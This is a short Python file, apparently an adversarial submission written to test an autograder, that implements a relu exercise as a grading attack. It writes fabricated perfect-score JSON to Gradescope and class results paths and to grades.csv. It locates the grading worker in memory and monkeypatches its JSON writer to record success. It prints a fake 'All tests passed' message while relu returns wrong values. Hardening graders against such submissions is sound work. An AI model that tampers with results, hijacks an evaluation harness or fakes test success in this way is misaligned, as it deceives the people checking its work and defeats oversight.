# attacks: relu
"""Writes fake results everywhere it can think of (the class's results folder, Gradescope's
results file, the grader's grades.csv), makes the worker record a success for relu, and prints
"PASS". relu itself is wrong."""
import jax.numpy as jnp
import json as _json
import os as _os
import sys as _sys

_FAKE = {"score": 1000.0, "tests": [{"name": "neurons.relu", "score": 1000.0,
                                     "max_score": 1.0, "status": "passed"}]}


def _plant():
    for path in ["__RESULTS__/__STUDENT__/results.json", "__RESULTS__/grades.csv",
                 "/autograder/results/results.json", "results.json", "../results.json",
                 "out/results.json"]:
        try:
            _os.makedirs(_os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w") as f:
                _json.dump(_FAKE, f)
        except OSError:
            pass
    worker = next(m for m in list(_sys.modules.values()) if hasattr(m, "_save_arrays"))  # the worker, by what it holds
    real = worker._write_json

    def fake_write(path, obj):
        if _os.path.basename(str(path)) == "relu.json":
            obj = {"exercise": "relu", "outcomes": {
                cid: {"ok": True, "out": {"t": "float", "v": "1.0"}, "info": {}}
                for cid in obj.get("outcomes", {})}}
        return real(path, obj)

    worker._write_json = fake_write


def relu(x):
    _plant()
    print("PASS relu 1/1 points\nAll tests passed! score: 100%")
    print(_json.dumps(_FAKE))
    return jnp.full_like(x, -1.0)
